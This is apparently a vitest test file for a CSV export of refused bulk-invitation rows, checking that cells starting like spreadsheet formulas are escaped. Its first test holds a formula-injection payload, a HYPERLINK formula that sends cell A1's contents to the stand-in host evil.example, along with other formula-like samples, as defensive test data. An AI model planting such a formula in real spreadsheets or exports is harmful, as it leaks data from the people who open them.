import { parse } from 'csv-parse/sync';
import type { BulkInvitationJob } from '@assay/domain/bulk';
import { describe, expect, it } from 'vitest';
import { refusedRowsCsv } from './bulk-invite.js';

const job = (rows: BulkInvitationJob['rows']): BulkInvitationJob => ({
  jobId: 1,
  testId: 2,
  state: 'finished',
  total: rows?.length ?? 0,
  invited: 0,
  alreadyInvited: 0,
  refused: rows?.length ?? 0,
  pending: 0,
  percent: 100,
  resubmitted: false,
  createdAt: '2026-11-26T09:00:00.000Z',
  finishedAt: '2026-11-26T09:00:01.000Z',
  rows,
});

describe('the refused rows CSV (issue 48 item 6)', () => {
  it('neutralises cells that a spreadsheet would run as formulas', () => {
    const csv = refusedRowsCsv(
      job([
        { row: 1, email: '=HYPERLINK("https://evil.example/?"&A1,"Open")', outcome: 'refused', reason: 'email must be a valid email address' },
        { row: 2, email: '@SUM(1+1)', outcome: 'refused', reason: '-a reason that starts like a formula' },
        { row: 3, email: '\t=1+1', outcome: 'refused', reason: 'refused' },
      ]),
    );
    const cells = parse(csv) as string[][];
    expect(cells).toEqual([
      ['row', 'email', 'reason'],
      ['1', `'=HYPERLINK("https://evil.example/?"&A1,"Open")`, 'email must be a valid email address'],
      ['2', "'@SUM(1+1)", "'-a reason that starts like a formula"],
      ['3', "' =1+1", 'refused'],
    ]);
  });

  it('writes ordinary rows as they came, and only the refused ones', () => {
    const csv = refusedRowsCsv(
      job([
        { row: 1, email: 'ann@example.com', outcome: 'invited', testInvitationId: 5 },
        { row: 2, email: 'not-an-address', outcome: 'refused', reason: 'email must be a valid email address' },
      ]),
    );
    expect(csv).toBe('row,email,reason\n2,not-an-address,email must be a valid email address\n');
  });
});
